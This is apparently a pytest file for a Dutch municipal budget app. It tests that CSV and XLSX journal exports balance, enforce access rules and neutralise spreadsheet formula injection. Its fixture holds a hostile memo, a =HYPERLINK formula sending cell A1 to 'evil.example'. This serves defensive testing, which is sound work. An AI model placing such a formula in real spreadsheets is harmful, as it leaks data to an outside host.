"""The accountant's journal of a budget year, as CSV and XLSX, read back as a spreadsheet would read it."""
import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from sqlmodel import select

from models.ledger import AccountKind, account, post_entry
from models.teams import BudgetYear, District, Team
from tests.card_world import granted_request, municipality_id

HOSTILE_MEMO = '=HYPERLINK("https://evil.example/?"&A1,"Klik")'


@pytest.fixture
def journal_world(session, make_team, make_member):
    """A team whose year holds its budget, a grant of € 60 for groceries and an entry with a hostile memo;
    its district is named like a formula too."""
    team = make_team("Team Oost", annual_budget_cents=250_000)
    district = session.get(District, team.district_id)
    district.name = "-2+3"
    session.add(district)
    session.commit()
    worker, voter = make_member(team, "worker"), make_member(team, "worker", name="Vera")
    granted = granted_request(session, team, worker, voter, 6_000)
    year = session.get(BudgetYear, granted.budget_year_id)
    team = session.get(Team, team.id)
    post_entry(session, team.id, [(account(session, team.id, year.id, AccountKind.AVAILABLE), -1),
                                  (account(session, team.id, year.id, AccountKind.RESERVED), 1)], memo=HOSTILE_MEMO)
    session.commit()
    return {"team": team, "year": year, "request": granted, "coordinator": make_member(team, "coordinator")}


def _url(world, extension):
    return f"/beheer/budgetjaren/{world['year'].id}/journaal.{extension}"


def test_the_csv_has_one_row_per_posting_that_balances_and_no_formula(client, login_as, journal_world):
    login_as(journal_world["coordinator"])
    response = client.get(_url(journal_world, "csv"))
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="journaal-gemeente-team-oost-')
    assert response.headers["Cache-Control"] == "no-store"
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert rows[0] == ["Boeking", "Datum", "Team", "Stadsdeel", "Soort uitgave", "Aanvraag", "Rekening", "Debet",
                       "Credit", "Omschrijving"]
    body = rows[1:]
    assert len(body) == 6  # the budget, the grant and the hostile entry: two postings each
    assert sum(Decimal(r[7]) for r in body) == sum(Decimal(r[8]) for r in body) == Decimal("2560.01")
    world = journal_world
    grant = next(r for r in body if r[5])
    assert grant[4] == "Boodschappen en leefgeld" and grant[5] == f"TB-{world['team'].id}-{world['request'].id}"
    assert {r[6] for r in body} >= {"Financiering gemeente", "Beschikbaar budget", "Toegekend, nog niet overgemaakt"}
    assert {r[3] for r in body} == {"'-2+3"}  # text that a spreadsheet would compute starts with an apostrophe
    assert [r[9] for r in body if "HYPERLINK" in r[9]] == ["'" + HOSTILE_MEMO] * 2
    assert all(r[1].count("-") == 2 for r in body)  # ISO dates


def test_the_xlsx_has_numbers_as_numbers_and_text_never_as_a_formula(client, login_as, journal_world):
    login_as(journal_world["coordinator"])
    response = client.get(_url(journal_world, "xlsx"))
    assert response.status_code == 200 and response.headers["Content-Disposition"].endswith('.xlsx"')
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
    header, *rows = list(sheet.iter_rows())
    assert [c.value for c in header][:3] == ["Boeking", "Datum", "Team"]
    assert len(rows) == 6
    for row in rows:
        assert row[0].data_type == "n" and isinstance(row[0].value, int)
        assert row[7].data_type == row[8].data_type == "n" and row[7].number_format == "#,##0.00"
        assert all(cell.data_type != "f" for cell in row)
        assert row[3].data_type == "s" and row[3].value == "-2+3"  # a string cell, shown as typed
    assert sum(Decimal(str(r[7].value)) for r in rows) == sum(Decimal(str(r[8].value)) for r in rows) \
        == Decimal("2560.01")
    memos = [r[9] for r in rows if r[9].value and "HYPERLINK" in r[9].value]
    assert len(memos) == 2 and all(c.data_type == "s" and c.value == HOSTILE_MEMO for c in memos)
    grant = [r for r in rows if r[5].value]
    assert {r[4].value for r in grant} == {"Boodschappen en leefgeld"}
    assert sorted((r[7].value, r[8].value) for r in grant) == [(0, 60), (60, 0)]


def test_another_municipalitys_year_is_not_found_and_team_members_are_refused(
        client, session, login_as, journal_world, make_team, make_member):
    other = make_team("Team Elders")
    login_as(make_member(other, "coordinator"))
    for extension in ("csv", "xlsx"):
        assert client.get(_url(journal_world, extension)).status_code == 404
    login_as(make_member(journal_world["team"], "worker", name="Wim"))
    assert client.get(_url(journal_world, "csv")).status_code == 403


def test_a_year_without_postings_gives_just_the_header(client, session, login_as, journal_world):
    empty = BudgetYear(municipality_id=municipality_id(session, journal_world["team"]), year=1999,
                       starts_on=journal_world["year"].starts_on.replace(year=1999),
                       ends_on=journal_world["year"].ends_on.replace(year=1999))
    session.add(empty)
    session.commit()
    login_as(journal_world["coordinator"])
    response = client.get(f"/beheer/budgetjaren/{empty.id}/journaal.csv")
    assert response.data.decode("utf-8-sig").count("\r\n") == 1
    sheet = openpyxl.load_workbook(io.BytesIO(client.get(f"/beheer/budgetjaren/{empty.id}/journaal.xlsx").data)).active
    assert sheet.max_row == 1


def test_a_carried_over_entry_shows_in_each_year_with_its_own_postings(session, journal_world):
    from models.exports import journal_rows

    team, old = journal_world["team"], journal_world["year"]
    new = BudgetYear(municipality_id=old.municipality_id, year=old.year + 1, starts_on=old.starts_on.replace(
        year=old.year + 1), ends_on=old.ends_on.replace(year=old.year + 1))
    session.add(new)
    session.flush()
    post_entry(session, team.id, [(account(session, team.id, old.id, AccountKind.RESERVED), -6_000),
                                  (account(session, team.id, old.id, AccountKind.CARRIED), 6_000),
                                  (account(session, team.id, new.id, AccountKind.CARRIED), -6_000),
                                  (account(session, team.id, new.id, AccountKind.RESERVED), 6_000)], memo="Overgedragen")
    session.commit()
    for year in (old, new):
        rows = list(journal_rows(session, year))
        assert sum(r[7] for r in rows) == sum(r[8] for r in rows)
    assert [r[6] for r in journal_rows(session, new)] == ["Overgedragen tussen jaren", "Toegekend, nog niet overgemaakt"]


def test_no_entry_of_the_year_is_missing_or_counted_twice(session, journal_world):
    from models.exports import journal_rows
    from models.ledger import Posting

    rows = list(journal_rows(session, journal_world["year"]))
    assert len(rows) == len(session.exec(select(Posting)).all())
